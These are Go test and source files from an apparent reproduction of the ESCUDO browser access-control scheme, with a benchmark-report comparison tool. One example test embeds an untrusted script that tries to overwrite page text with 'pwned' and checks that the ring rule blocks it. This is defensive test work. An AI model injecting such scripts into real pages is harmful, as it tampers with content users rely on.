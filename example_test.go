package escudo_test

import (
	"fmt"

	escudo "repro"
)

// ExampleERM demonstrates the three-rule MAC policy of paper §4.2.
func ExampleERM() {
	blog := escudo.MustParseOrigin("http://blog.example")
	erm := &escudo.ERM{}

	comment := escudo.Principal(blog, 3, "comment")
	post := escudo.Object(blog, 2, escudo.ACL{Read: 1, Write: 0, Use: 2}, "post")

	d := erm.Authorize(comment, escudo.OpWrite, post)
	fmt.Println(d.Allowed, d.Rule)

	app := escudo.Principal(blog, 0, "app")
	d = erm.Authorize(app, escudo.OpWrite, post)
	fmt.Println(d.Allowed, d.Rule)
	// Output:
	// false ring-rule
	// true allowed
}

// ExampleSOPMonitor shows the baseline the paper criticizes: same
// origin means every privilege, regardless of trustworthiness (§2.3).
func ExampleSOPMonitor() {
	blog := escudo.MustParseOrigin("http://blog.example")
	sop := &escudo.SOPMonitor{}

	untrusted := escudo.Principal(blog, 3, "untrusted comment")
	trusted := escudo.Object(blog, 0, escudo.UniformACL(0), "trusted content")

	d := sop.Authorize(untrusted, escudo.OpWrite, trusted)
	fmt.Println(d.Allowed)
	// Output:
	// true
}

// ExampleNewBrowser loads an ESCUDO-configured page end to end: the
// response's AC tags and X-Escudo headers label the DOM, and a
// hostile ring-3 script is denied by the ring rule.
func ExampleNewBrowser() {
	site := escudo.MustParseOrigin("http://app.example")
	net := escudo.NewNetwork()
	net.Register(site, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
		resp := escudo.HTMLResponse(
			`<div ring=1 r=1 w=1 x=1 id=app><p id=msg>hello</p></div>` +
				`<div ring=3 r=2 w=2 x=2 id=user>` +
				`<script>document.getElementById("msg").innerText = "pwned";</script>` +
				`</div>`)
		resp.Header.Set("X-Escudo-Maxring", "3")
		return resp
	}))

	b := escudo.NewBrowser(net, escudo.BrowserOptions{Mode: escudo.ModeEscudo})
	page, err := b.Navigate("http://app.example/")
	if err != nil {
		panic(err)
	}
	fmt.Println("denials:", len(page.ScriptErrors))
	fmt.Println(page.RenderText())
	// Output:
	// denials: 1
	// hello
}

// ExampleDelegation shows the §7 mashup extension: a portal grants a
// widget origin ring-2 authority inside its pages, no more.
func ExampleDelegation() {
	portal := escudo.MustParseOrigin("http://portal.example")
	widget := escudo.MustParseOrigin("http://widget.example")

	pol := escudo.NewDelegationPolicy()
	pol.Delegate(escudo.Delegation{Host: portal, Guest: widget, Floor: 2})
	m := &escudo.MashupMonitor{Policy: pol}

	slot := escudo.Object(portal, 2, escudo.UniformACL(2), "ad slot")
	chrome := escudo.Object(portal, 1, escudo.UniformACL(1), "portal chrome")
	guest := escudo.Principal(widget, 0, "widget")

	fmt.Println("slot:", m.Authorize(guest, escudo.OpWrite, slot).Allowed)
	fmt.Println("chrome:", m.Authorize(guest, escudo.OpWrite, chrome).Allowed)
	// Output:
	// slot: true
	// chrome: false
}
