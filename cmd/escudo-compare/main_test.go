package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const oldJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 60,
  "phases": [
    {"name": "figure4", "tasks": 40, "p50_ms": 0.30, "p99_ms": 20.0, "decisions": 40},
    {"name": "phpbb", "tasks": 8, "p50_ms": 4.00, "p99_ms": 8.0, "decisions": 700}
  ]
}`

const newJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 4, "total_ms": 50,
  "phases": [
    {"name": "figure4", "tasks": 40, "p50_ms": 0.27, "p99_ms": 10.0, "decisions": 4000},
    {"name": "mixed", "tasks": 8, "p50_ms": 1.00, "p99_ms": 3.0, "decisions": 3000}
  ]
}`

func TestCompareReportsDeltas(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	// figure4 is compared with signed percentages.
	if !strings.Contains(out, "0.300 → 0.270 (-10.0%)") {
		t.Errorf("missing figure4 p50 delta in:\n%s", out)
	}
	if !strings.Contains(out, "20.000 → 10.000 (-50.0%)") {
		t.Errorf("missing figure4 p99 delta in:\n%s", out)
	}
	// Phases present on only one side are labeled.
	if !strings.Contains(out, "mixed (new)") {
		t.Errorf("missing new-phase marker in:\n%s", out)
	}
	if !strings.Contains(out, "phpbb (removed)") {
		t.Errorf("missing removed-phase marker in:\n%s", out)
	}
}

const oldClusterJSON = `{
  "sessions": 2, "mode": "escudo", "gomaxprocs": 1, "total_ms": 900,
  "phases": [],
  "cluster": {
    "workers": 2, "tls": true, "attacks_total": 18, "attacks_neutralized": 18,
    "phases": [
      {"name": "figure4", "tasks": 16, "reqs_per_sec": 1000, "p50_ms": 1.0, "p99_ms": 5.0}
    ],
    "per_worker": [
      {"worker": 0, "reqs_per_sec": 500, "p99_ms": 5.0},
      {"worker": 1, "reqs_per_sec": 500, "p99_ms": 4.0}
    ]
  }
}`

const newClusterJSON = `{
  "sessions": 2, "mode": "escudo", "gomaxprocs": 1, "total_ms": 800,
  "phases": [],
  "cluster": {
    "workers": 2, "tls": true, "attacks_total": 18, "attacks_neutralized": 18,
    "phases": [
      {"name": "figure4", "tasks": 16, "reqs_per_sec": 1500, "p50_ms": 0.8, "p99_ms": 4.0},
      {"name": "attacks", "tasks": 36, "reqs_per_sec": 300, "p50_ms": 8.0, "p99_ms": 16.0}
    ],
    "per_worker": [
      {"worker": 0, "reqs_per_sec": 700, "p99_ms": 4.0},
      {"worker": 1, "reqs_per_sec": 800, "p99_ms": 3.0}
    ]
  }
}`

// TestCompareClusterSection pins the cluster diff: aggregate
// throughput and merged p99 get signed deltas, new phases are
// labeled, and the per-worker breakdown is compared row by row.
func TestCompareClusterSection(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldClusterJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newClusterJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	if !strings.Contains(out, "attacks 18/18 → 18/18") {
		t.Errorf("missing cluster attack tally in:\n%s", out)
	}
	if !strings.Contains(out, "1000.000 → 1500.000 (+50.0%)") {
		t.Errorf("missing aggregate throughput delta in:\n%s", out)
	}
	if !strings.Contains(out, "5.000 → 4.000 (-20.0%)") {
		t.Errorf("missing merged p99 delta in:\n%s", out)
	}
	if !strings.Contains(out, "attacks (new)") {
		t.Errorf("missing new cluster phase marker in:\n%s", out)
	}
	if !strings.Contains(out, "worker-1") || !strings.Contains(out, "4.000 → 3.000 (-25.0%)") {
		t.Errorf("missing per-worker p99 delta in:\n%s", out)
	}
}

// TestCompareClusterOnlyOneSide: a report pair where only one side
// has a cluster section still diffs cleanly.
func TestCompareClusterOnlyOneSide(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newClusterJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "old report has none") {
		t.Errorf("one-sided cluster diff not reported in:\n%s", data)
	}
}

const oldScriptJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 60,
  "phases": [],
  "script": {
    "eval": {"ops_per_sec": 4000, "ns_per_op": 250000, "allocs_per_op": 4200},
    "vm": {"ops_per_sec": 12000, "ns_per_op": 83333, "allocs_per_op": 300},
    "speedup": 3.0, "alloc_ratio": 0.071
  }
}`

const newScriptJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 55,
  "phases": [],
  "script": {
    "eval": {"ops_per_sec": 4000, "ns_per_op": 250000, "allocs_per_op": 4200},
    "vm": {"ops_per_sec": 13200, "ns_per_op": 75757, "allocs_per_op": 240},
    "speedup": 3.3, "alloc_ratio": 0.057
  }
}`

// TestCompareScriptSection pins the engine-vs-engine diff: speedup and
// alloc ratio get signed deltas, and both engines are compared row by
// row. A pair where only one side has a section still diffs cleanly.
func TestCompareScriptSection(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldScriptJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newScriptJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	if !strings.Contains(out, "vm speedup 3.000 → 3.300 (+10.0%)") {
		t.Errorf("missing speedup delta in:\n%s", out)
	}
	if !strings.Contains(out, "12000.000 → 13200.000 (+10.0%)") {
		t.Errorf("missing vm ops/s delta in:\n%s", out)
	}
	if !strings.Contains(out, "4200.000 → 4200.000 (+0.0%)") {
		t.Errorf("missing eval allocs delta in:\n%s", out)
	}

	// One-sided: old report without a script section.
	plainPath := filepath.Join(dir, "plain.json")
	if err := os.WriteFile(plainPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	f2, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{plainPath, newPath}, f2); err != nil {
		t.Fatalf("run one-sided: %v", err)
	}
	f2.Close()
	data, err = os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "script: old report has none") {
		t.Errorf("one-sided script diff not reported in:\n%s", data)
	}
}

const oldObsJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 60,
  "phases": [],
  "obs": {
    "version": {"module": "repro", "go": "go1.22.0"},
    "sampler": {
      "samples": 10,
      "goroutines": {"first": 20, "last": 21, "min": 18, "max": 30},
      "post_warmup_goroutines": 20,
      "heap_alloc_bytes": {"first": 10485760, "last": 10485760, "min": 8388608, "max": 20971520},
      "heap_monotonic": false, "gc_pause_total_ms": 1.5, "num_gc": 4
    },
    "decision_events_recorded": 4000
  }
}`

const newObsJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 55,
  "phases": [],
  "obs": {
    "version": {"module": "repro", "go": "go1.23.0"},
    "sampler": {
      "samples": 12,
      "goroutines": {"first": 20, "last": 24, "min": 18, "max": 35},
      "post_warmup_goroutines": 22,
      "heap_alloc_bytes": {"first": 10485760, "last": 12582912, "min": 8388608, "max": 25165824},
      "heap_monotonic": false, "gc_pause_total_ms": 2.0, "num_gc": 6
    },
    "decision_events_recorded": 5000
  }
}`

// TestCompareObsSection pins the observability diff: goroutine/heap
// shape, GC cycles, decision-event traffic, and a toolchain-change
// note. A pair where only one side has the section still diffs
// cleanly — old reports predating obs must render, not error.
func TestCompareObsSection(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldObsJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newObsJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	if !strings.Contains(out, "goroutines last 21 → 24") {
		t.Errorf("missing goroutine delta in:\n%s", out)
	}
	if !strings.Contains(out, "GC cycles 4 → 6") {
		t.Errorf("missing GC cycle delta in:\n%s", out)
	}
	if !strings.Contains(out, "decision events 4000 → 5000") {
		t.Errorf("missing decision-event delta in:\n%s", out)
	}
	if !strings.Contains(out, "toolchain changed: go1.22.0 → go1.23.0") {
		t.Errorf("missing toolchain note in:\n%s", out)
	}

	// One-sided: old report without an obs section.
	plainPath := filepath.Join(dir, "plain.json")
	if err := os.WriteFile(plainPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	f2, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{plainPath, newPath}, f2); err != nil {
		t.Fatalf("run one-sided: %v", err)
	}
	f2.Close()
	data, err = os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "obs: old report has none") {
		t.Errorf("one-sided obs diff not reported in:\n%s", data)
	}
}

const oldSLOJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 60,
  "phases": [],
  "slo": {
    "target_rate": 200, "offered_rate": 195, "achieved_rate": 190,
    "duration_sec": 30, "dropped": 2, "errors": 0, "error_fraction": 0,
    "p50_ms": 1.0, "p99_ms": 8.0, "p999_ms": 20.0,
    "p99_budget_ms": 250, "p99_within_budget": true,
    "stages": {
      "handler": {"p50_ms": 0.5, "p99_ms": 4.0, "p999_ms": 10.0, "count": 5000}
    },
    "leak": {"slope_bytes_per_sec": 100, "growth_fraction": 0.01,
             "window_sec": 29, "points": 140, "leak_suspected": false}
  }
}`

const newSLOJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 55,
  "phases": [],
  "slo": {
    "target_rate": 200, "offered_rate": 198, "achieved_rate": 196,
    "duration_sec": 30, "dropped": 1, "errors": 0, "error_fraction": 0,
    "p50_ms": 0.9, "p99_ms": 9.0, "p999_ms": 18.0,
    "p99_budget_ms": 250, "p99_within_budget": true,
    "stages": {
      "handler": {"p50_ms": 0.4, "p99_ms": 3.5, "p999_ms": 9.0, "count": 5200}
    },
    "leak": {"slope_bytes_per_sec": 80, "growth_fraction": 0.01,
             "window_sec": 29, "points": 140, "leak_suspected": false}
  }
}`

// sloVariant patches newSLOJSON for the gate cases.
func sloVariant(t *testing.T, old, new string) string {
	t.Helper()
	out := strings.Replace(newSLOJSON, old, new, 1)
	if out == newSLOJSON {
		t.Fatalf("variant pattern %q not found", old)
	}
	return out
}

// TestCompareSLOSection pins the one section with teeth: a clean pair
// passes, and each gate condition — dirty leak verdict, missed p99
// budget, p99 regression past the noise envelope — fails the run
// after printing its diff. Small regressions inside the envelope
// stay advisory.
func TestCompareSLOSection(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	if err := os.WriteFile(oldPath, []byte(oldSLOJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	runPair := func(t *testing.T, newDoc string) (string, error) {
		t.Helper()
		newPath := filepath.Join(dir, "new.json")
		if err := os.WriteFile(newPath, []byte(newDoc), 0o644); err != nil {
			t.Fatal(err)
		}
		outPath := filepath.Join(dir, "out.txt")
		f, err := os.Create(outPath)
		if err != nil {
			t.Fatal(err)
		}
		runErr := run([]string{oldPath, newPath}, f)
		f.Close()
		data, err := os.ReadFile(outPath)
		if err != nil {
			t.Fatal(err)
		}
		return string(data), runErr
	}

	// Clean pair: diff prints, gate passes.
	out, err := runPair(t, newSLOJSON)
	if err != nil {
		t.Fatalf("clean pair failed the gate: %v\noutput:\n%s", err, out)
	}
	if !strings.Contains(out, "slo: offered 195.000 → 198.000") {
		t.Errorf("missing offered-rate delta in:\n%s", out)
	}
	if !strings.Contains(out, "8.000 → 9.000 (+12.5%)") {
		t.Errorf("missing total p99 delta in:\n%s", out)
	}
	if !strings.Contains(out, "handler") {
		t.Errorf("missing per-stage row in:\n%s", out)
	}
	if !strings.Contains(out, "SLO gate: pass") {
		t.Errorf("missing gate pass line in:\n%s", out)
	}

	// Dirty leak verdict fails.
	out, err = runPair(t, sloVariant(t, `"leak_suspected": false}`, `"leak_suspected": true}`))
	if err == nil {
		t.Errorf("dirty leak verdict passed the gate:\n%s", out)
	}
	if !strings.Contains(out, "SLO GATE FAIL: leak verdict dirty") {
		t.Errorf("leak failure not named in:\n%s", out)
	}

	// Missed p99 budget fails.
	out, err = runPair(t, sloVariant(t, `"p99_within_budget": true`, `"p99_within_budget": false`))
	if err == nil {
		t.Errorf("missed budget passed the gate:\n%s", out)
	}
	if !strings.Contains(out, "misses the declared 250.0 ms budget") {
		t.Errorf("budget failure not named in:\n%s", out)
	}

	// Regression past the envelope (8 → 40 ms: > 2x and > 5 ms) fails.
	out, err = runPair(t, sloVariant(t, `"p99_ms": 9.0`, `"p99_ms": 40.0`))
	if err == nil {
		t.Errorf("5x p99 regression passed the gate:\n%s", out)
	}
	if !strings.Contains(out, "SLO GATE FAIL: p99 regressed 8.000 → 40.000 ms") {
		t.Errorf("regression failure not named in:\n%s", out)
	}

	// Regression inside the envelope (8 → 12 ms: < 2x) stays advisory.
	out, err = runPair(t, sloVariant(t, `"p99_ms": 9.0`, `"p99_ms": 12.0`))
	if err != nil {
		t.Errorf("in-envelope regression tripped the gate: %v\noutput:\n%s", err, out)
	}

	// One-sided: a new slo section with no old counterpart renders and
	// still enforces its own declared terms (budget, leak) but has no
	// regression baseline.
	if err := os.WriteFile(oldPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err = runPair(t, newSLOJSON)
	if err != nil {
		t.Fatalf("one-sided slo diff failed: %v\noutput:\n%s", err, out)
	}
	if !strings.Contains(out, "slo: old report has none") {
		t.Errorf("one-sided slo diff not reported in:\n%s", out)
	}
}

// TestCompareSLOFromCluster: in -cluster mode the merged slo section
// lives at cluster.slo; the gate must find it there.
func TestCompareSLOFromCluster(t *testing.T) {
	clusterSLO := strings.Replace(newClusterJSON,
		`"per_worker": [`,
		`"slo": {
      "target_rate": 400, "offered_rate": 390, "achieved_rate": 380,
      "duration_sec": 30, "dropped": 0, "errors": 0, "error_fraction": 0,
      "p50_ms": 1.0, "p99_ms": 10.0, "p999_ms": 20.0,
      "p99_budget_ms": 50, "p99_within_budget": false,
      "leak": null
    },
    "per_worker": [`, 1)
	if clusterSLO == newClusterJSON {
		t.Fatal("cluster slo splice failed")
	}
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldClusterJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(clusterSLO), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	runErr := run([]string{oldPath, newPath}, f)
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if runErr == nil {
		t.Errorf("cluster slo over budget passed the gate:\n%s", data)
	}
	if !strings.Contains(string(data), "misses the declared 50.0 ms budget") {
		t.Errorf("cluster slo budget failure not named in:\n%s", data)
	}
}

func TestCompareUsageError(t *testing.T) {
	if err := run([]string{"one.json"}, os.Stdout); err == nil {
		t.Fatal("want usage error with one argument")
	}
	if err := run([]string{"/nonexistent/a.json", "/nonexistent/b.json"}, os.Stdout); err == nil {
		t.Fatal("want error for missing files")
	}
}

const oldControlJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 60,
  "phases": [],
  "control": {
    "tenants_mounted": 1024, "generation": 1026, "generations_mixed": 0,
    "storm": {
      "flip_generation": 1026, "push_ack_ms": 4.0, "propagation_ms": 6.0,
      "cache_refill_ms": 3.0, "baseline_reqs_per_sec": 1500,
      "min_post_flip_reqs_per_sec": 1200, "dip_percent": 20.0
    },
    "noisy_neighbor": {
      "victim_p99_alone_ms": 0.5, "victim_p99_noisy_ms": 2.0, "p99_ratio": 4.0
    }
  }
}`

const newControlJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 55,
  "phases": [],
  "control": {
    "tenants_mounted": 2048, "generation": 2050, "generations_mixed": 0,
    "storm": {
      "flip_generation": 2050, "push_ack_ms": 4.0, "propagation_ms": 3.0,
      "cache_refill_ms": 2.0, "baseline_reqs_per_sec": 1500,
      "min_post_flip_reqs_per_sec": 1350, "dip_percent": 10.0
    },
    "noisy_neighbor": {
      "victim_p99_alone_ms": 0.5, "victim_p99_noisy_ms": 1.0, "p99_ratio": 2.0
    }
  }
}`

// TestCompareControlSection pins the control-plane diff: tenant scale
// and the mixed-page gate on the headline, signed deltas on the storm
// latencies and the noisy-neighbor ratio, and a one-sided render when
// the old report predates the section.
func TestCompareControlSection(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldControlJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newControlJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	if !strings.Contains(out, "tenants 1024 → 2048") {
		t.Errorf("missing tenant delta in:\n%s", out)
	}
	if !strings.Contains(out, "mixed pages 0 → 0") {
		t.Errorf("missing mixed-page gate in:\n%s", out)
	}
	if !strings.Contains(out, "propagation 6.000 → 3.000 (-50.0%)") {
		t.Errorf("missing propagation delta in:\n%s", out)
	}
	if !strings.Contains(out, "ratio 4.000 → 2.000 (-50.0%)") {
		t.Errorf("missing noisy-neighbor ratio delta in:\n%s", out)
	}

	// One-sided: an old report without the section still renders.
	if err := os.WriteFile(oldPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	f2, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f2); err != nil {
		t.Fatalf("run one-sided: %v", err)
	}
	f2.Close()
	data, err = os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "old report has none; new: 2048 tenants at generation 2050") {
		t.Errorf("one-sided control diff not reported in:\n%s", data)
	}
}
