package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const oldJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 1, "total_ms": 60,
  "phases": [
    {"name": "figure4", "tasks": 40, "p50_ms": 0.30, "p99_ms": 20.0, "decisions": 40},
    {"name": "phpbb", "tasks": 8, "p50_ms": 4.00, "p99_ms": 8.0, "decisions": 700}
  ]
}`

const newJSON = `{
  "sessions": 8, "mode": "escudo", "gomaxprocs": 4, "total_ms": 50,
  "phases": [
    {"name": "figure4", "tasks": 40, "p50_ms": 0.27, "p99_ms": 10.0, "decisions": 4000},
    {"name": "mixed", "tasks": 8, "p50_ms": 1.00, "p99_ms": 3.0, "decisions": 3000}
  ]
}`

func TestCompareReportsDeltas(t *testing.T) {
	dir := t.TempDir()
	oldPath := filepath.Join(dir, "old.json")
	newPath := filepath.Join(dir, "new.json")
	if err := os.WriteFile(oldPath, []byte(oldJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newPath, []byte(newJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	outPath := filepath.Join(dir, "out.txt")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := run([]string{oldPath, newPath}, f); err != nil {
		t.Fatalf("run: %v", err)
	}
	f.Close()
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	out := string(data)
	// figure4 is compared with signed percentages.
	if !strings.Contains(out, "0.300 → 0.270 (-10.0%)") {
		t.Errorf("missing figure4 p50 delta in:\n%s", out)
	}
	if !strings.Contains(out, "20.000 → 10.000 (-50.0%)") {
		t.Errorf("missing figure4 p99 delta in:\n%s", out)
	}
	// Phases present on only one side are labeled.
	if !strings.Contains(out, "mixed (new)") {
		t.Errorf("missing new-phase marker in:\n%s", out)
	}
	if !strings.Contains(out, "phpbb (removed)") {
		t.Errorf("missing removed-phase marker in:\n%s", out)
	}
}

func TestCompareUsageError(t *testing.T) {
	if err := run([]string{"one.json"}, os.Stdout); err == nil {
		t.Fatal("want usage error with one argument")
	}
	if err := run([]string{"/nonexistent/a.json", "/nonexistent/b.json"}, os.Stdout); err == nil {
		t.Fatal("want error for missing files")
	}
}
