// Command escudo-compare diffs two BENCH_engine.json reports phase by
// phase, printing old-vs-new p50/p99 deltas — the review artifact for
// perf PRs (`make bench-compare` runs it against a fresh serve run).
//
// Usage:
//
//	escudo-compare OLD.json NEW.json
//
// Exit status is 0 even when phases regress: the tool reports, humans
// (and PR review) judge — benchmark noise on shared runners makes a
// hard gate counterproductive.
//
// The slo section is the one deliberate exception. An open-loop run
// declares its own pass/fail terms (a p99 budget, a leak watch), so
// escudo-compare exits nonzero when the new report's slo section
// carries a dirty leak verdict, misses its declared p99 budget, or
// regresses p99 beyond a generous noise envelope (> 2x the old p99
// AND > 5 ms absolute) — the CI gate ISSUE.md calls for, tolerant
// enough that shared-runner jitter cannot trip it.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"

	"repro/internal/metrics"
)

// phase mirrors the subset of escudo-serve's phase JSON the comparison
// needs; unknown fields are ignored.
type phase struct {
	Name      string  `json:"name"`
	Tasks     uint64  `json:"tasks"`
	P50Ms     float64 `json:"p50_ms"`
	P99Ms     float64 `json:"p99_ms"`
	Decisions uint64  `json:"decisions"`
}

// clusterPhase mirrors one merged phase of the cluster section.
type clusterPhase struct {
	Name       string  `json:"name"`
	Tasks      uint64  `json:"tasks"`
	ReqsPerSec float64 `json:"reqs_per_sec"`
	P50Ms      float64 `json:"p50_ms"`
	P99Ms      float64 `json:"p99_ms"`
}

// clusterWorker mirrors one row of the per-process breakdown.
type clusterWorker struct {
	Worker     int     `json:"worker"`
	ReqsPerSec float64 `json:"reqs_per_sec"`
	P99Ms      float64 `json:"p99_ms"`
}

// clientSection mirrors a transport's connection accounting (the
// cluster client and the http section's client share the shape).
// Proto is absent in pre-h2 reports — rendered as "?" so old-vs-new
// comparisons against them stay one-sided instead of failing.
type clientSection struct {
	Requests    uint64  `json:"requests"`
	NewConns    uint64  `json:"new_conns"`
	ReusedConns uint64  `json:"reused_conns"`
	ReuseRate   float64 `json:"reuse_rate"`
	Proto       string  `json:"proto"`
}

// proto renders the negotiated protocol, "?" for older reports that
// predate the field.
func (c *clientSection) proto() string {
	if c == nil || c.Proto == "" {
		return "?"
	}
	return c.Proto
}

// reuseRate tolerates sections with no client accounting at all.
func (c *clientSection) reuseRate() float64 {
	if c == nil {
		return 0
	}
	return c.ReuseRate
}

// proto on the http section prefers the section-level field (the
// headline) and is "?" for reports that predate it.
func (h *httpSection) proto() string {
	if h == nil || h.Proto == "" {
		return "?"
	}
	return h.Proto
}

// clusterSection mirrors the subset of the cluster section compared.
type clusterSection struct {
	Workers            int             `json:"workers"`
	TLS                bool            `json:"tls"`
	Phases             []clusterPhase  `json:"phases"`
	PerWorker          []clusterWorker `json:"per_worker"`
	AttacksTotal       int             `json:"attacks_total"`
	AttacksNeutralized int             `json:"attacks_neutralized"`
	Client             *clientSection  `json:"client"`
	SLO                *sloSection     `json:"slo"`
}

// httpPhase mirrors one phase of the http section.
type httpPhase struct {
	Name       string  `json:"name"`
	Tasks      uint64  `json:"tasks"`
	P50Ms      float64 `json:"p50_ms"`
	P99Ms      float64 `json:"p99_ms"`
	Requests   uint64  `json:"requests"`
	ReqsPerSec float64 `json:"reqs_per_sec"`
}

// httpSection mirrors the subset of the http section compared: wire
// protocol, connection reuse, and the allocation-diet headline number.
type httpSection struct {
	TLS              bool           `json:"tls"`
	Proto            string         `json:"proto"`
	AllocsPerRequest float64        `json:"allocs_per_request"`
	Phases           []httpPhase    `json:"phases"`
	Client           *clientSection `json:"client"`
}

// controlStorm mirrors the invalidation-storm measurement of the
// control section.
type controlStorm struct {
	FlipGeneration        uint64  `json:"flip_generation"`
	PushAckMs             float64 `json:"push_ack_ms"`
	PropagationMs         float64 `json:"propagation_ms"`
	CacheRefillMs         float64 `json:"cache_refill_ms"`
	BaselineReqsPerSec    float64 `json:"baseline_reqs_per_sec"`
	MinPostFlipReqsPerSec float64 `json:"min_post_flip_reqs_per_sec"`
	DipPercent            float64 `json:"dip_percent"`
}

// controlNoisy mirrors the noisy-neighbor harness figures.
type controlNoisy struct {
	VictimP99AloneMs float64 `json:"victim_p99_alone_ms"`
